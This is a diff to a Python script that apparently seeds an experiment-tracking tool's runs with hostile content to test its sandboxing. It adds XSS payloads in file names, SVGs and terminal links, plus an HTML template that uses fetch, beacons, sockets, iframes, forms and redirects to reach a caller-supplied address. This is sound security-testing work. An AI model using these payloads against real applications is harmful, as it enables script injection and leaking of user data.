@@ -1,6 +1,7 @@
 """Makes runs of which all that can be named or said is nasty: a user's code, in a process of its own.
 
-`python nasty_runs.py TEXTS`: the texts are JSON; each run is printed as a line of it.
+`python nasty_runs.py TEXTS ADDRESS`: the texts are JSON; each run is printed as a line of it. What they put out tries
+to reach the address.
 """
 
 from __future__ import annotations
@@ -15,16 +16,47 @@ from cellrun.core import Experiment, Workspace
 LINK = "\x1b]8;;javascript:window.__pwned=6\x07link\x1b]8;;\x07"
 PICTURE = (
     '<svg xmlns="http://www.w3.org/2000/svg" onload="window.__pwned=7"><script>window.__pwned=8</script>'
-    '<rect width="9" height="9"/></svg>'
+    '<image href="{0}/svg" width="9" height="9"/><rect width="9" height="9"/></svg>'
 )
 DOT = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
-OUTPUTS = ("<img src=x onerror=window.__pwned=9>.svg", "page.html", "picture.svg")
+OUTPUTS = (
+    "<img src=x onerror=window.__pwned=9>.svg",
+    "page.html",
+    "whole.html",
+    "page.md",
+    "page.csv",
+    "page.json",
+    "picture.svg",
+)
 
 
-def main(texts: list[str]) -> None:
+LEAK = """<title>leak</title><img src="{0}/image"><link rel="stylesheet" href="{0}/style">
+<script src="{0}/script"></script><iframe src="{0}/frame"></iframe><form action="{0}/form" id="form"></form>
+<meta http-equiv="refresh" content="2; {0}/refresh">
+<script>
+fetch("{0}/fetch").catch(() => {{}});
+navigator.sendBeacon("{0}/beacon");
+try {{ new WebSocket("{0}/socket".replace("http", "ws")) }} catch {{}}
+try {{ new EventSource("{0}/events") }} catch {{}}
+try {{ open("{0}/open") }} catch {{}}
+try {{ top.location = "{0}/top" }} catch {{}}
+try {{ parent.location = "{0}/parent" }} catch {{}}
+try {{ parent.parent.__pwned = 10 }} catch {{}}
+try {{ document.getElementById("form").submit() }} catch {{}}
+parent.parent.postMessage({{ cellrunHeight: 1e9 }}, "*");
+setTimeout(() => {{ location = "{0}/location" }}, 500);
+</script>"""
+
+
+def main(texts: list[str], address: str) -> None:
     """Make two runs in the default workspace."""
-    Path("page.html").write_text("".join(texts))
-    Path("picture.svg").write_text(PICTURE)
+    leak = LEAK.format(address)
+    Path("page.html").write_text("".join([*texts, leak]))
+    Path("whole.html").write_text(f"<!doctype html><html><body>{leak}</body></html>")
+    Path("page.md").write_text("\n\n".join([*texts, f"![image]({address}/markdown)", leak]))
+    Path("page.csv").write_text("\n".join(json.dumps(text) for text in texts))
+    Path("page.json").write_text(json.dumps(texts))
+    Path("picture.svg").write_text(PICTURE.format(address))
     Path("picture.png").write_bytes(base64.b64decode(DOT))
     for name in texts[:2]:
         run = Experiment(Workspace.from_config(), "safety").start_logging(display_name=name)
@@ -35,11 +67,11 @@ def main(texts: list[str]) -> None:
             run.tag(text, text)
         run.layout.log.write_text("\n".join([*texts, LINK, ""]))
         for output in OUTPUTS:
-            run.upload_file(f"outputs/{output}", "page.html" if output == "page.html" else "picture.svg")
+            run.upload_file(f"outputs/{output}", "picture.svg" if output.endswith(".svg") else output)
         run.log_image(texts[0], path="picture.png")
         run.fail(texts[1])
         print(json.dumps({"workspace": run.experiment.workspace.id, "run": run.id}))
 
 
 if __name__ == "__main__":
-    main(json.loads(sys.argv[1]))
+    main(json.loads(sys.argv[1]), sys.argv[2])
